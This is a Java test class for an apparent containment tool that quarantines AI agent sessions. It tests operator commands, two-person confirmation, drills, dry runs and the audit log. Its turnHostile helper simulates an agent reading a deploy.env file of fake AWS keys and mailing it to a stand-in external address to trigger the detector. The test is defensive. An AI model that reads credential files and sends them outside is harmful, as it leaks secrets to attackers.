package io.cordon.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.cordon.cli.OperatorLine.Ran;
import io.cordon.emitter.AgentSession;
import io.cordon.emitter.CallPermit;
import io.cordon.emitter.Emitter;
import io.cordon.emitter.EmitterConfig;
import io.cordon.emitter.SessionRequest;
import io.cordon.emitter.ToolCall;
import io.cordon.emitter.ToolResult;
import io.cordon.schemas.grant.FileGrantSource;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

/** Each thing that operators may ask for, on real services: what was asked, what came of it at the target, and that the audit log has it. */
final class OperatorRequests {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Duration PATIENCE = Duration.ofSeconds(60);

    private final OperatorLine line;
    private final Path directory;

    OperatorRequests(OperatorLine line, Path directory) {
        this.line = line;
        this.directory = directory;
    }

    /** A containment with an end is extended; it never ends earlier. */
    void extend() throws IOException {
        line.issue("x-1", "token-x-1");
        done(line.cordon("quarantine", "x-1", "--for", "PT1H", "--reason", "while we look"));
        Instant end = Instant.parse(inspected("x-1").path("until").asText());

        done(line.cordon("extend", "x-1", "--for", "PT3H", "--reason", "we still look"));
        await().atMost(PATIENCE)
                .until(() -> Instant.parse(inspected("x-1").path("until").asText()), later -> later.isAfter(end));
        done(line.cordon("extend", "x-1", "--for", "PT1M", "--reason", "a slip of the finger"));
        assertThat(Instant.parse(inspected("x-1").path("until").asText())).isAfter(end);
        assertThat(line.isActive("token-x-1")).isFalse();
    }

    /** What an analyst found is recorded, and changes no containment. */
    void verdict() throws IOException {
        done(line.cordon("verdict", "x-1", "true-positive", "--reason", "it was an attack"));

        assertThat(inspected("x-1").path("state").asText()).isEqualTo("contained");
        assertThat(line.cordon("verdict", "x-nobody", "true-positive", "--reason", "?")
                        .code())
                .isEqualTo(2);
    }

    /** A whole agent waits for a second operator: nobody confirms what he asked for himself, and what is withdrawn stays undone. */
    void twoPersons() throws IOException {
        line.issue("x-2", "token-x-2");
        String withdrawn =
                waiting(line.cordon("quarantine", "agent:billing-bot", "--yes", "--json", "-r", "all of it"));
        assertThat(line.cordon("confirm", withdrawn, "-r", "my own").code()).isEqualTo(1);
        done(line.cordon("withdraw", withdrawn, "-r", "only one of them"));
        assertThat(asBob("confirm", withdrawn, "-r", "too late").code()).isEqualTo(1);
        assertThat(line.isActive("token-x-2")).as("nobody's access was ended").isTrue();

        String confirmed =
                waiting(line.cordon("quarantine", "agent:billing-bot", "--yes", "--json", "-r", "all of it"));
        done(asBob("confirm", confirmed, "-r", "I saw it too"));
        await().atMost(PATIENCE).until(() -> !line.isActive("token-x-2"));
    }

    /** While all is stopped, what the engine finds is not contained; two persons let it go on. */
    void stopAndResume() throws Exception {
        done(line.cordon("stop-all", "--reason", "it contains the wrong ones"));
        assertThat(status().path("stopped").path("kind").asText()).isEqualTo("stop-all");
        line.issue("x-3", "token-x-3", "mail-bot"); // the whole of billing-bot is contained
        turnHostile("x-3");
        await().atMost(PATIENCE).until(() -> line.cordon("explain", "x-3").out().contains("secret-to-egress"));
        assertThat(line.isActive("token-x-3")).isTrue();

        String resume = waiting(line.cordon("resume", "--json", "--reason", "repaired"));
        assertThat(status().path("stopped").isMissingNode())
                .as("one is not enough")
                .isFalse();
        done(asBob("confirm", resume, "--reason", "it is"));
        assertThat(status().path("stopped").isMissingNode()).isTrue();
        line.issue("x-4", "token-x-4", "mail-bot");
        turnHostile("x-4");
        await().atMost(PATIENCE).until(() -> !line.isActive("token-x-4"));
        assertThat(line.isActive("token-x-3"))
                .as("it is for people to decide on")
                .isTrue();
    }

    /** A scheduled drill, held once: minted, announced, turned hostile, proven, tidied up. */
    void drill() throws IOException {
        Ran drilled = line.drilled();

        done(drilled);
        assertThat(drilled.out()).contains("\"proven\":true");
        JsonNode last = status().path("lastDrill");
        assertThat(last.path("drill").asBoolean()).isTrue();
        assertThat(line.cordon(
                                "explain",
                                JSON.readTree(drilled.out()).path("session").asText())
                        .out())
                .contains("oauth2:tools", "postgresql:orders");
        assertThat(last.path("state").asText()).isEqualTo("released");
    }

    /** A drill that an operator announces: it ends once the canary was contained and that is proven. */
    void drillByHand() throws Exception {
        line.issue("x-5", "token-x-5", "mail-bot");
        // In a thread of its own: one that waits in the common pool would keep HTTP clients from their answers.
        var drilled = CompletableFuture.supplyAsync(
                () -> line.cordon("drill", "x-5", "--json", "--reason", "rehearsed by hand"),
                task -> new Thread(task, "drill").start());
        await().atMost(PATIENCE).until(() -> line.cordon("explain", "x-5").out().contains(": followed"));

        turnHostile("x-5");

        Ran ran = drilled.get(PATIENCE.toSeconds(), TimeUnit.SECONDS);
        done(ran);
        assertThat(JSON.readTree(ran.out()).path("answer").asText()).isEqualTo("done");
        assertThat(line.isActive("token-x-5")).isFalse();
    }

    /** Yes and no to one call by its digest, without an alert. */
    void approveAndDeny() {
        String[] call = {"--session", "x-6", "--arguments", "ab".repeat(32)};
        line.issue("x-6", "token-x-6", "mail-bot");
        done(line.cordon(with(call, "approve", "--reason", "it may do that once")));
        done(line.cordon(with(call, "deny", "--reason", "it may not after all")));
        assertThat(line.cordon("deny", "--reason", "which one").code()).isEqualTo(2);
    }

    /** Who would be hit, and nothing else: nothing is asked for, nothing ends. */
    void dryRun() throws Exception {
        String[] all = {"quarantine", "agent:mail-bot", "--dry-run", "--reason", "what if"};
        try (AutoCloseable atWork = atWork("x-7")) {
            Ran dry = await().atMost(PATIENCE)
                    .until(() -> line.cordon(all), ran -> ran.out().contains("token-of-x-7"));
            Ran document = line.cordon(with(new String[] {"--json"}, all));

            done(dry);
            assertThat(dry.out()).contains("would hit", "contained  x-7", "oauth2:tools");
            assertThat(JSON.readTree(document.out()).path("answer").asText()).isEqualTo("preview");
            assertThat(JSON.readTree(document.out()).at("/impact/points")).isNotEmpty();
            assertThat(line.cordon("explain", "mail-bot").out())
                    .contains("ada asks whom it would hit to quarantine agent mail-bot");
            assertThat(line.cordon("list", "--all").out()).doesNotContain("agent:mail-bot");
            assertThat(line.isActive("token-x-7")).isTrue();
        }
    }

    /** At a terminal, what reaches further than a session is shown and asked about first. */
    void preview() throws Exception {
        assumeTrue(AtTerminal.isHere(), "script (util-linux), which lends a terminal, is not on this machine");
        String[] all = {"quarantine", "agent:mail-bot", "--reason", "all of the mail"};

        Ran no = line.atTerminal("n", all);
        assertThat(no.code()).as(no.toString()).isEqualTo(1);
        assertThat(no.out()).contains("would hit", "Go on?", "nothing was asked for");
        assertThat(status().path("waiting")).isEmpty();

        Ran yes = line.atTerminal("y", all);
        assertThat(yes.out()).contains("would hit", "Go on?", "WAITING for a second operator");
        assertThat(status().path("waiting")).hasSize(1);
    }

    /** A session whose token another one uses too: it is no more one session's matter, and nobody is there to be asked. */
    void asksBeforeOthersLoseAccess() throws Exception {
        String[] shared = {"quarantine", "x-8", "--reason", "it shares a token"};
        line.issue("shared-by-two", "token-shared", "mail-bot", List.of("x-8", "x-9"));
        try (AutoCloseable one = atWork("x-8");
                AutoCloseable other = atWork("x-9")) {
            await().atMost(PATIENCE)
                    .until(() -> line.cordon(with(new String[] {"--dry-run"}, shared))
                            .out()
                            .contains("loses what it shares  x-9"));

            Ran asked = line.cordon(shared);

            assertThat(asked.code()).as(asked.toString()).isEqualTo(2);
            assertThat(asked.err()).contains("x-9", "reaches further than one session");
            assertThat(line.isActive("token-shared")).isTrue();
        }
    }

    /** A session that has begun and goes on until it is closed. */
    private AutoCloseable atWork(String session) {
        line.issue(session, "token-" + session, "mail-bot");
        Emitter emitter = emitter();
        emitter.open(SessionRequest.of("mail-bot", "mail").withSession(session));
        return emitter;
    }

    private static String[] with(String[] call, String... command) {
        return Stream.concat(Stream.of(command), Stream.of(call)).toArray(String[]::new);
    }

    /** Each request is in the log with its answer, and the log is intact. */
    void log() throws IOException {
        Path log = directory.resolve("requests-log");
        done(line.cordon("audit", "follow", "--once", "--out", log.toString(), "--key", key("audit")));
        done(line.run("audit", "verify", log.toString(), "--public", key("audit-public")));

        try (Stream<Path> files = Files.walk(log)) {
            String text = String.join(
                    "\n",
                    Files.readAllLines(files.filter(f -> f.toString().endsWith(".jsonl"))
                            .findFirst()
                            .orElseThrow()));
            assertThat(List.of(
                            "while we look",
                            "we still look",
                            "it was an attack",
                            "only one of them",
                            "I saw it too",
                            "it contains the wrong ones",
                            "repaired",
                            "rehearsed by hand",
                            "it may do that once",
                            "it may not after all",
                            "scheduled drill",
                            "the drill is over"))
                    .allSatisfy(reason -> assertThat(text).contains(reason));
            assertThat(text).contains("\"reason\":\"what if\",\"preview\":true");
        }
    }

    private Ran asBob(String... arguments) {
        return line.cordon(Stream.concat(Stream.of(arguments), Stream.of("--key", key("bob"), "--operator", "bob"))
                .toArray(String[]::new));
    }

    private String key(String name) {
        return line.key(name).toString();
    }

    private JsonNode inspected(String session) throws IOException {
        return JSON.readTree(line.cordon("inspect", session, "--json").out());
    }

    private JsonNode status() throws IOException {
        return JSON.readTree(line.cordon("status", "--json").out());
    }

    private static void done(Ran ran) {
        assertThat(ran.code()).as(ran.toString()).isZero();
    }

    private static String waiting(Ran ran) throws IOException {
        assertThat(ran.code()).as(ran.toString()).isEqualTo(1);
        return JSON.readTree(ran.out()).path("requestId").asText();
    }

    private void turnHostile(String session) throws Exception {
        try (Emitter emitter = emitter();
                AgentSession agent =
                        emitter.open(SessionRequest.of("mail-bot", "mail").withSession(session))) {
            String file =
                    "AWS_ACCESS_KEY_ID=AKIAQ7ZP3M5XRT2LDWEV\nAWS_SECRET_ACCESS_KEY=k3Vd9Qw7Xz2Lp5Rt8Yb1Nc6Mf4Hg0Js+Ua/Ei"
                            + session.hashCode();
            call(agent, ToolCall.of("files.read", Map.of("path", "deploy.env")), file);
            call(agent, ToolCall.of("mail.send", Map.of("to", "intake@cfg-checker.example", "body", file)), "sent");
        }
    }

    private Emitter emitter() {
        return Emitter.start(EmitterConfig.builder(OperatorLine.TENANT, "billing-runtime")
                .kafka(line.bootstrapServers())
                .registry(line.registryServer().confluentUrl())
                .grants(new FileGrantSource(line.key("grants")))
                .build());
    }

    private static void call(AgentSession agent, ToolCall call, String result) {
        CallPermit permit = agent.beforeCall(call);
        agent.afterCall(permit, permit.allowed() ? ToolResult.succeeded(result) : ToolResult.denied());
    }
}
